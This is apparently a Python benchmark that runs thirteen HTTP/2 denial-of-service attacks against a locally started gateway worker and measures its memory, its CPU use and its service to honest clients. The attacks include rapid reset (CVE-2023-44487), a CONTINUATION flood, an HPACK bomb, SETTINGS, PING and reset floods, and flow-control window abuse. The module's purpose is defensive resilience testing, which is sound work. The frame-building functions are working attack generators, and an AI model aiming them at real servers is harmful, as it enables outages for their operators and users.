"""HTTP/2 attacks on a live worker: what they cost it in memory and CPU, and whether others are served meanwhile.

    python -m benchmarks.load.attacks [--seconds N] [--only NAME,...]

Each attack: CONNECTIONS hostile connections over TLS for so many seconds; one that is ended begins anew. Beside them a
client of HTTP/1.1 and one of HTTP/2, at another address, ask the same upstream for a small answer again and again.
Memory is the worker's peak resident size over what it had before; limits and timeouts are at their defaults
(attacked/fastgw.yaml).
Exit code 1: a gate was missed; 3: not measured.
"""

from __future__ import annotations

import argparse
import select
import socket
import ssl
import struct
import sys
import threading
import time
from collections import Counter
from collections.abc import Callable, Sequence
from dataclasses import replace
from pathlib import Path
from typing import Any

from benchmarks import machine
from benchmarks.compare import peers
from benchmarks.load import proc, tools
from benchmarks.load.target import LOAD_CORE, PROXY_CORE, RESULTS, gate, publish

CONNECTIONS = 16
GROWTH_MIB = 192  # of the worker: three input blocks of 64 KiB for each of pool.max_connections answers held
SLOWEST_MS = 2000  # of a neighbour's answer: two starved cores, not a wall time promise
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST, SETTINGS, PUSH, PING, GOAWAY, WINDOW, CONT = range(10)
END_STREAM, END_HEADERS = 1, 4
CANCEL, WINDOW_SIZE = 8, 4  # an error code; a setting


def frame(kind: int, flags: int, stream: int, body: bytes = b"") -> bytes:
    """One frame."""
    return struct.pack(">I", len(body))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + body


def literal(name: bytes, value: bytes, indexed: bool = False) -> bytes:
    """A field as a literal; `indexed`: the peer shall keep it in its table."""
    size = (
        bytes((len(value),))
        if len(value) < 127
        else bytes((127, (len(value) - 127) % 128 | 128, (len(value) - 127) // 128))
    )
    return bytes((0x40 if indexed else 0, len(name))) + name + size + value


def ask(path: bytes, method: bytes = b"GET") -> bytes:
    """The fields of a request."""
    fields = ((b":method", method), (b":scheme", b"https"), (b":path", path), (b":authority", b"localhost"))
    return b"".join(literal(*f) for f in fields)


def hello(window: int | None = None) -> bytes:
    """What a client says first."""
    return PREFACE + frame(SETTINGS, 0, 0, b"" if window is None else struct.pack(">HI", WINDOW_SIZE, window))


GET, POST, LARGE = ask(b"/s"), ask(b"/s", b"POST"), ask(b"/l")
HOSTILE = ("127.0.0.2", 0)  # where attackers come from
HEAD = END_HEADERS | END_STREAM


def streams(first: int, count: int, make: Callable[[int], bytes]) -> bytes:
    """`make` for so many stream numbers from `first` on."""
    return b"".join(make(first + 2 * i) for i in range(count))


def rapid_reset(turn: int) -> bytes:
    """A request and its reset (CVE-2023-44487)."""
    return streams(
        1 + 200 * turn, 100, lambda n: frame(HEADERS, HEAD, n, GET) + frame(RST, 0, n, struct.pack(">I", CANCEL))
    )


def continuation(turn: int) -> bytes:
    """A header block without end."""
    begun = b"" if turn else frame(HEADERS, END_STREAM, 1, GET)
    return begun + frame(CONT, 0, 1, literal(b"x", b"y" * 8000)) * 4


def hpack_bomb(turn: int) -> bytes:
    """One field of 3,900 bytes, named a thousand times by one byte each."""
    fields = GET + (b"" if turn else literal(b"x", b"y" * 3900, indexed=True)) + b"\xbe" * 1000
    return frame(HEADERS, HEAD, 1 + 2 * turn, fields)


def settings(_: int) -> bytes:
    """SETTINGS, each of which wants an answer."""
    return frame(SETTINGS, 0, 0, struct.pack(">HI", WINDOW_SIZE, 65535)) * 200


def ping(_: int) -> bytes:
    """PING, each of which wants an answer."""
    return frame(PING, 0, 0, b"12345678") * 200


def resets(turn: int) -> bytes:
    """RST_STREAM on streams that are over."""
    begun = b"" if turn else frame(HEADERS, HEAD, 1, GET)
    return begun + frame(RST, 0, 1, struct.pack(">I", CANCEL)) * 200


def priorities(_: int) -> bytes:
    """PRIORITY of streams that are not there."""
    return streams(1001, 200, lambda n: frame(PRIORITY, 0, n, struct.pack(">IB", 0, 9)))


def empty(turn: int) -> bytes:
    """DATA without data."""
    return (b"" if turn else frame(HEADERS, END_HEADERS, 1, POST)) + frame(DATA, 0, 1) * 200


def overfull(turn: int) -> bytes:
    """Streams beyond what was allowed."""
    return streams(1 + 1000 * turn, 500, lambda n: frame(HEADERS, END_HEADERS, n, POST))


def half_open(turn: int) -> bytes:
    """Requests whose bodies never come, as many as are allowed."""
    return streams(1, 100, lambda n: frame(HEADERS, END_HEADERS, n, POST)) if not turn else b""


def shut_window(turn: int) -> bytes:
    """Answers of 1 MiB, and a window of nothing."""
    return streams(1, 100, lambda n: frame(HEADERS, HEAD, n, LARGE)) if not turn else b""


def tiny_window(turn: int) -> bytes:
    """Answers of 1 MiB, and windows that open byte by byte."""
    if not turn:
        return streams(1, 100, lambda n: frame(HEADERS, HEAD, n, LARGE))
    return streams(1, 100, lambda n: frame(WINDOW, 0, n, struct.pack(">I", 1)))


def unread(turn: int) -> bytes:
    """Answers of 1 MiB with all the window there can be, and a socket that is not read."""
    if turn:
        return b""
    return frame(WINDOW, 0, 0, struct.pack(">I", 2**31 - 65536)) + streams(
        1, 100, lambda n: frame(HEADERS, HEAD, n, LARGE)
    )


# name: (what it sends in its nth turn, the window of a stream that it says, whether it reads)
ATTACKS: dict[str, tuple[Callable[[int], bytes], int | None, bool]] = {
    "rapid reset": (rapid_reset, None, True),
    "continuation flood": (continuation, None, True),
    "hpack bomb": (hpack_bomb, None, True),
    "settings flood": (settings, None, True),
    "ping flood": (ping, None, True),
    "reset flood": (resets, None, True),
    "priority flood": (priorities, None, True),
    "empty frames": (empty, None, True),
    "streams over the limit": (overfull, None, True),
    "half-open streams": (half_open, None, True),
    "window of nothing": (shut_window, 0, True),
    "windows byte by byte": (tiny_window, 1, True),
    "answers that are not read": (unread, 2**31 - 1, False),
}


def anyone(*protocols: str) -> ssl.SSLContext:
    """A client that believes anybody."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(list(protocols))
    return context


class Attack:
    """CONNECTIONS hostile connections, each in a thread."""

    def __init__(self, name: str, port: int) -> None:
        self.make, self.window, self.reads = ATTACKS[name]
        self.port, self.over = port, threading.Event()
        self.dials = self.sent = 0
        self.ends: Counter[str] = Counter()
        self.threads = [threading.Thread(target=self.run, daemon=True) for _ in range(CONNECTIONS)]

    def __enter__(self) -> Attack:
        for thread in self.threads:
            thread.start()
        return self

    def __exit__(self, *_: object) -> None:
        self.over.set()
        for thread in self.threads:
            thread.join(10)

    def run(self) -> None:
        context = anyone("h2")
        while not self.over.is_set():
            try:
                plain = socket.create_connection(("127.0.0.1", self.port), 5, HOSTILE)
                with context.wrap_socket(plain) as sock:
                    self.dials += 1
                    self.ends[self.attack(sock)] += 1
            except OSError:
                self.ends["refused"] += 1
                time.sleep(0.01)

    def attack(self, sock: ssl.SSLSocket) -> str:
        """Returns how the connection was ended."""
        heard, turn, waiting = b"", 0, hello(self.window) + self.make(0)
        sock.setblocking(False)
        while not self.over.is_set():
            waiting = waiting or self.make(turn)
            try:
                if waiting:
                    n = sock.send(waiting)
                    self.sent += n
                    waiting = waiting[n:]
                    turn += not waiting
                else:
                    self.over.wait(0.01)
            except (ssl.SSLWantWriteError, ssl.SSLWantReadError):
                select.select([sock] if self.reads else [], [sock], [], 0.05)
            except OSError:
                return said(heard) or "cut"
            if self.reads:
                try:
                    part = sock.recv(1 << 16)
                    heard = (heard + part)[-(1 << 17) :]
                    if not part:
                        return said(heard) or "closed"
                except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
                    pass
                except OSError:
                    return said(heard) or "cut"
        return "held"


def said(heard: bytes) -> str:
    """`GOAWAY code` if that is among the last bytes."""
    at = heard.rfind(bytes((GOAWAY, 0, 0, 0, 0, 0)))
    if at < 3 or len(heard) < at + 14:
        return ""
    return f"GOAWAY {struct.unpack('>I', heard[at + 10 : at + 14])[0]}"


class Neighbour:
    """An honest client: one request after the other on a connection that stays."""

    def __init__(self, port: int, protocol: str) -> None:
        self.port, self.protocol, self.over = port, protocol, threading.Event()
        self.answered = self.failed = 0
        self.slowest_ms = 0.0
        self.thread = threading.Thread(target=self.run, daemon=True)

    def __enter__(self) -> Neighbour:
        self.thread.start()
        return self

    def __exit__(self, *_: object) -> None:
        self.over.set()
        self.thread.join(15)

    def run(self) -> None:
        context = anyone(self.protocol)
        while not self.over.is_set():
            try:
                plain = socket.create_connection(("127.0.0.1", self.port), 10)
                with context.wrap_socket(plain) as sock:
                    self.ask(sock)
            except OSError:
                self.failed += 1

    def ask(self, sock: ssl.SSLSocket) -> None:
        stream, h2 = 1, self.protocol == "h2"
        if h2:
            sock.sendall(hello() + frame(SETTINGS, 1, 0))
        while not self.over.is_set():
            began, heard = time.monotonic(), b""
            sock.sendall(frame(HEADERS, HEAD, stream, GET) if h2 else b"GET /s HTTP/1.1\r\nHost: localhost\r\n\r\n")
            while b"abcdefghijkl\n" not in heard:  # the small answer's body
                part = sock.recv(65536)
                if not part:
                    raise OSError("ended")
                heard += part
            self.answered += 1
            self.slowest_ms = max(self.slowest_ms, (time.monotonic() - began) * 1000)
            stream += 2
            self.over.wait(0.005)


def resident(pid: int) -> int:  # KiB
    return proc.status_number(proc.read(pid, "status"), "VmRSS")


def one(name: str, running: peers.Running, pid: int, seconds: float) -> dict[str, Any]:
    """An attack and what it did."""
    before, cpu = resident(pid), proc.usage(pid).cpu_ns
    peak = before
    with Neighbour(running.port, "http/1.1") as h1, Neighbour(running.port, "h2") as h2:
        with Attack(name, running.port) as attack:
            deadline = time.monotonic() + seconds
            while time.monotonic() < deadline:
                time.sleep(0.02)
                peak = max(peak, resident(pid))
        used = proc.usage(pid).cpu_ns - cpu
    return {
        "connections": attack.dials,
        "sent_bytes": attack.sent,
        "ends": dict(attack.ends),
        "cpu_s": used / 1e9,
        "growth_kib": peak - before,
        "answered": h1.answered + h2.answered,
        "failed": h1.failed + h2.failed,
        "slowest_ms": max(h1.slowest_ms, h2.slowest_ms),
    }


def started(origin: int) -> peers.Running:
    """The gateway, with one upstream for attackers and others."""
    peer = replace(peers.load("fastgw", peers.TLS), name="attacked", home=tools.LOAD, texts={})
    return peers.Running(peer, origin, core=PROXY_CORE, tag="attacks")


def measure(options: argparse.Namespace) -> dict[str, Any]:
    """All attacks, as the JSON document that render.py shows."""
    found: dict[str, Any] = {}
    with tools.origin(LOAD_CORE) as origin, started(origin) as running:
        (pid,) = running.workers()
        with Neighbour(running.port, "h2"), Neighbour(running.port, "http/1.1"):
            time.sleep(1)
        for name in options.only:
            found[name] = one(name, running, pid, options.seconds)
            print(f"{name}: {found[name]}", file=sys.stderr)
            time.sleep(1)
        if running.workers() != [pid]:
            raise tools.BenchError("the worker has died")
    return document(found, options.seconds)


def document(found: dict[str, Any], seconds: float) -> dict[str, Any]:
    """The results with their gates."""
    growth = max(f["growth_kib"] for f in found.values()) / 1024
    gates = [
        gate("MiB that the worker grew by, worst attack", GROWTH_MIB, growth),
        gate("requests of others that failed", 0, sum(f["failed"] for f in found.values())),
        gate("milliseconds of the slowest answer to others", SLOWEST_MS, max(f["slowest_ms"] for f in found.values())),
    ]
    rows = [
        [
            name,
            f"{f['connections']:,}",
            f"{f['sent_bytes'] / 2**20:.1f}",
            ", ".join(f"{end} ×{n}" for end, n in sorted(f["ends"].items(), key=lambda e: -e[1])),
            f"{f['cpu_s']:.2f}",
            f"{f['growth_kib'] / 1024:.1f}",
            f"{f['answered']:,}",
            f["failed"],
        ]
        for name, f in found.items()
    ]
    return {
        "schema": 1,
        "title": "HTTP/2 attacks on a live worker",
        "text": f"{CONNECTIONS} hostile connections over TLS for {seconds:g} s each; one that is ended begins anew. "
        "Beside them two honest clients (HTTP/1.1, HTTP/2). `held`: still open at the end, within its timeouts.",
        "machine": machine.facts(),
        "columns": ["", "connections", "MiB sent", "ended", "worker's CPU s", "MiB grown", "others answered", "failed"],
        "rows": rows,
        "attacks": found,
        "gates": gates,
    }


def main(argv: Sequence[str] | None = None) -> int:
    """Measures, writes the JSON, prints the gates. Returns the exit code."""
    parser = argparse.ArgumentParser(prog="python -m benchmarks.load.attacks", description="HTTP/2 attacks.")
    parser.add_argument("--seconds", type=float, default=5)
    parser.add_argument("--only", type=lambda t: t.split(","), default=list(ATTACKS), help=", ".join(ATTACKS))
    parser.add_argument("--out", type=Path, default=RESULTS / "attacks.json")
    options = parser.parse_args(argv)
    tools.raise_files()
    try:
        result = measure(options)
    except (tools.BenchError, proc.Gone, OSError) as e:
        print(f"bench: {e}", file=sys.stderr)
        return 3
    return publish(result, options.out)


if __name__ == "__main__":
    sys.exit(main())
